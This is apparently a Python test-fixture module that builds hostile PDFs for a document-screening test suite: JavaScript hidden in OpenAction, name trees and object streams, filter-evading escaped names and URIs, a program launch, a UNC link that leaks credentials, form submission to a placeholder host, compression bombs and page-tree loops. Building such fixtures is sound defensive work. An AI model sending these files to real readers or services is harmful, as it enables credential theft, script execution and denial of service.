"""Build the PDFs the screening tests feed in: one honest file and many hostile ones, all in memory."""
from __future__ import annotations

import functools
import io
import random
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

A4 = (595, 842)
PAGE_TEXT = b"BT /F1 14 Tf 72 760 Td (Rapport de rendez-vous de carriere) Tj ET"


def to_bytes(writer: PdfWriter) -> bytes:
    """Serialise a writer."""
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def name(value: str) -> NameObject:
    """A PDF name from its text, slash included."""
    return NameObject(value)


def js_action(code: str = "app.alert('bonjour');") -> DictionaryObject:
    """A JavaScript action dictionary, written by hand since pypdf 7 has no add_js."""
    return DictionaryObject({name("/S"): name("/JavaScript"), name("/JS"): TextStringObject(code)})


def one_page_writer() -> PdfWriter:
    """One A4 page with a line of Helvetica text in a compressed content stream."""
    writer = PdfWriter()
    page = writer.add_blank_page(*A4)
    font = DictionaryObject(
        {
            name("/Type"): name("/Font"),
            name("/Subtype"): name("/Type1"),
            name("/BaseFont"): name("/Helvetica"),
        }
    )
    page[name("/Resources")] = DictionaryObject(
        {name("/Font"): DictionaryObject({name("/F1"): writer._add_object(font)})}
    )
    content = DecodedStreamObject()
    content.set_data(PAGE_TEXT)
    page[name("/Contents")] = writer._add_object(content)
    page.compress_content_streams()
    return writer


def valid_pdf() -> bytes:
    """An honest one-page PDF."""
    return to_bytes(one_page_writer())


def annotated(action_key: str, action: DictionaryObject, subtype: str = "/Link") -> bytes:
    """One page carrying one annotation whose action sits under action_key (/A or /AA)."""
    writer = one_page_writer()
    annotation = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name(subtype),
            name("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 300, 720)]),
            name(action_key): action,
        }
    )
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return to_bytes(writer)


def encrypted() -> bytes:
    """Opened only with a password (RC4, which pypdf writes without extra packages)."""
    writer = one_page_writer()
    writer.encrypt(user_password="secret", owner_password="secret-proprietaire")
    return to_bytes(writer)


def encrypted_no_password() -> bytes:
    """Encrypted with an empty user password: opens without asking, still encrypted."""
    writer = one_page_writer()
    writer.encrypt(user_password="", owner_password="proprietaire")
    return to_bytes(writer)


def javascript_in_names() -> bytes:
    """A document-level script in the catalog's /Names /JavaScript tree."""
    writer = one_page_writer()
    tree = DictionaryObject(
        {name("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(js_action())])}
    )
    writer._root_object[name("/Names")] = DictionaryObject({name("/JavaScript"): tree})
    return to_bytes(writer)


def openaction_javascript() -> bytes:
    """A script run on opening, through the catalog's /OpenAction."""
    writer = one_page_writer()
    writer._root_object[name("/OpenAction")] = writer._add_object(js_action())
    return to_bytes(writer)


def page_aa() -> bytes:
    """A script run when the page opens, through the page's /AA."""
    writer = one_page_writer()
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): js_action()})
    return to_bytes(writer)


def launch_action() -> bytes:
    """A link that starts a program."""
    launch = DictionaryObject({name("/S"): name("/Launch"), name("/F"): TextStringObject("calc.exe")})
    return annotated("/A", launch)


def annotation_javascript() -> bytes:
    """A link whose action is a script."""
    return annotated("/A", js_action())


def submit_form() -> bytes:
    """A link that sends form data to a server."""
    submit = DictionaryObject(
        {
            name("/S"): name("/SubmitForm"),
            name("/F"): DictionaryObject(
                {name("/FS"): name("/URL"), name("/F"): TextStringObject("https://exemple.invalid/")}
            ),
        }
    )
    return annotated("/A", submit)


def remote_goto() -> bytes:
    """A link that opens a file on a network share (a known way to leak Windows credentials)."""
    remote = DictionaryObject(
        {
            name("/S"): name("/GoToR"),
            name("/F"): TextStringObject("\\\\serveur.invalid\\partage\\a.pdf"),
            name("/D"): ArrayObject([NumberObject(0), name("/Fit")]),
        }
    )
    return annotated("/A", remote)


def uri_action(address: str) -> bytes:
    """A link to an address."""
    return annotated("/A", DictionaryObject({name("/S"): name("/URI"), name("/URI"): TextStringObject(address)}))


def javascript_uri() -> bytes:
    """A link whose address is a script, with a blank and a tab to dodge a naive prefix test."""
    return uri_action(" java\tscript:app.alert(1)")


def unc_uri() -> bytes:
    """A link to a file on a network share."""
    return uri_action("\\\\serveur.invalid\\partage\\note.pdf")


def web_link() -> bytes:
    """An ordinary link to a web page, which an honest rapport may carry."""
    return uri_action("https://www.education.gouv.fr/")


def sound_annotation() -> bytes:
    """An annotation that plays a sound."""
    sound = DecodedStreamObject()
    sound.set_data(bytes(800))
    sound[name("/Type")] = name("/Sound")
    sound[name("/R")] = NumberObject(8000)
    writer = one_page_writer()
    annotation = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Sound"),
            name("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 90, 720)]),
            name("/Sound"): writer._add_object(sound),
        }
    )
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return to_bytes(writer)


def embedded_file() -> bytes:
    """A file embedded in the document (/Names /EmbeddedFiles)."""
    writer = one_page_writer()
    writer.add_attachment("programme.exe", b"MZ" + b"\0" * 64)
    return to_bytes(writer)


def file_attachment_annotation() -> bytes:
    """A paperclip annotation carrying a file."""
    writer = one_page_writer()
    content = DecodedStreamObject()
    content.set_data(b"contenu joint")
    content[name("/Type")] = name("/EmbeddedFile")
    spec = DictionaryObject(
        {
            name("/Type"): name("/Filespec"),
            name("/F"): TextStringObject("note.txt"),
            name("/EF"): DictionaryObject({name("/F"): writer._add_object(content)}),
        }
    )
    annotation = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/FileAttachment"),
            name("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 90, 720)]),
            name("/FS"): writer._add_object(spec),
        }
    )
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return to_bytes(writer)


def xfa_form() -> bytes:
    """An XFA form declared in /AcroForm."""
    writer = one_page_writer()
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    writer._root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): writer._add_object(xfa)}
    )
    return to_bytes(writer)


def zero_pages() -> bytes:
    """A well-formed document with an empty page tree."""
    return to_bytes(PdfWriter())


def truncated() -> bytes:
    """An honest file cut two thirds of the way, as an interrupted download leaves it."""
    data = valid_pdf()
    return data[: len(data) * 2 // 3]


def not_a_pdf() -> bytes:
    """An office document (a ZIP) that a teacher renamed rapport.pdf."""
    return b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + b"[Content_Types].xml" + bytes(200)


def garbage_after_header() -> bytes:
    """A PDF header, then noise, then an end marker: no object, no xref to rebuild."""
    noise = random.Random(4).randbytes(4000).replace(b"obj", b"xxx").replace(b"trailer", b"xxxxxxx")
    return b"%PDF-1.7\n" + noise + b"\nstartxref\n123456\n%%EOF\n"


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """Assemble numbered objects into a file with a correct xref table; objects[0] is number 1."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def javascript_in_object_stream() -> bytes:
    """A document script stored inside a compressed object stream, behind a cross-reference stream."""
    packed = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >> >>",
        6: b"<< /S /JavaScript /JS (app.alert(1)) >>",
    }
    bodies, offsets, position = [], [], 0
    for body in packed.values():
        offsets.append(position)
        bodies.append(body)
        position += len(body) + 1
    header = b" ".join(b"%d %d" % (number, offset) for number, offset in zip(packed, offsets)) + b"\n"
    packed_data = zlib.compress(header + b"\n".join(bodies) + b"\n")
    plain = page_objects(flate_stream(zlib.compress(PAGE_TEXT)))[1:]  # pages, page, content: 2, 3, 4
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    where: dict[int, int] = {}
    for number, body in enumerate(plain, start=2):
        where[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    where[5] = len(out)
    out += (
        b"5 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
        % (len(packed), len(header), len(packed_data))
        + packed_data
        + b"\nendstream\nendobj\n"
    )
    where[7] = len(out)
    rows = [(0, 0, 0xFFFF)]
    for number in range(1, 8):
        if number in packed:
            rows.append((2, 5, list(packed).index(number)))
        else:
            rows.append((1, where[number], 0))
    table = b"".join(kind.to_bytes(1, "big") + a.to_bytes(4, "big") + b.to_bytes(2, "big") for kind, a, b in rows)
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % where[7]
    )
    return bytes(out)


def escaped_names() -> bytes:
    """/OpenAction and /JavaScript spelt with #xx escapes, which readers decode to the same names."""
    objects = page_objects(flate_stream(zlib.compress(PAGE_TEXT)))
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /Java#53cript /J#53 (app.alert(1)) >> >>"
    return raw_pdf(objects)


def page_objects(content: bytes, extra_page_entries: bytes = b"") -> list[bytes]:
    """Catalog (1), pages (2), page (3) and its content stream (4)."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + extra_page_entries + b">>",
        content,
    ]


def flate_stream(compressed: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """A stream object body with the given filter chain."""
    return b"<< /Length %d /Filter %s >>\nstream\n" % (len(compressed), filters) + compressed + b"\nendstream"


@functools.cache
def deflated_zeros(megabytes: int) -> bytes:
    """Zeros in zlib format at about 1 000 to 1, built in milliseconds from one repeated block."""
    block = bytes(1024 * 1024)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15, 9, zlib.Z_RLE)
    # A full flush resets the dictionary, so the same compressed run can follow itself.
    run = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    # Adler-32 of n zero bytes: the low sum stays 1, the high sum is n modulo 65521.
    checksum = ((megabytes * len(block)) % 65521) << 16 | 1
    body = run * megabytes + packer.flush(zlib.Z_FINISH)
    return b"\x78\xda" + body + checksum.to_bytes(4, "big")


def compression_bomb() -> bytes:
    """One page whose content stream is 280 Mo of zeros in about 290 Ko."""
    return raw_pdf(page_objects(flate_stream(deflated_zeros(280))))


def nested_compression_bomb() -> bytes:
    """A content stream deflated twice: 1 Go of zeros in a few kilobytes."""
    twice = zlib.compress(deflated_zeros(1024), 9)
    return raw_pdf(page_objects(flate_stream(twice, b"[/FlateDecode /FlateDecode]")))


def deeply_nested_arrays(depth: int = 5_000) -> bytes:
    """A page entry holding an array inside an array, depth times."""
    nested = b"[" * depth + b"0" + b"]" * depth
    return raw_pdf(page_objects(flate_stream(zlib.compress(PAGE_TEXT)), b"/Nested " + nested + b" "))


def deeply_nested_dicts(depth: int = 3_000) -> bytes:
    """A page entry holding a dictionary inside a dictionary, depth times."""
    nested = b"<< /D " * depth + b"0" + b" >>" * depth
    return raw_pdf(page_objects(flate_stream(zlib.compress(PAGE_TEXT)), b"/Nested " + nested + b" "))


def page_tree_loop() -> bytes:
    """A page tree whose node lists itself among its kids."""
    objects = page_objects(flate_stream(zlib.compress(PAGE_TEXT)))
    objects[1] = b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"
    return raw_pdf(objects)


def page_tree_diamond(levels: int = 30) -> bytes:
    """Page tree nodes that each list the next node twice: one page object, 2^30 pages to a reader
    that flattens the tree."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(levels):
        kid = 3 + level
        objects.append(b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count %d >>" % (kid, kid, 2 ** (levels - level)))
    page = 2 + levels
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (page - 1, page + 1))
    objects.append(flate_stream(zlib.compress(PAGE_TEXT)))
    return raw_pdf(objects)


def long_reference_chain(length: int = 2_000) -> bytes:
    """Thousands of indirect dictionaries, each pointing to the next: deep, but harmless."""
    objects = page_objects(flate_stream(zlib.compress(PAGE_TEXT)), b"/Chain 5 0 R ")
    for number in range(5, 5 + length):
        objects.append(b"<< /Next %d 0 R >>" % (number + 1))
    objects.append(b"<< >>")
    return raw_pdf(objects)


def over_cap(max_bytes: int) -> bytes:
    """An honest PDF padded with a comment to one byte over the cap."""
    data = valid_pdf()
    return data + b"%" + b"x" * (max_bytes - len(data))
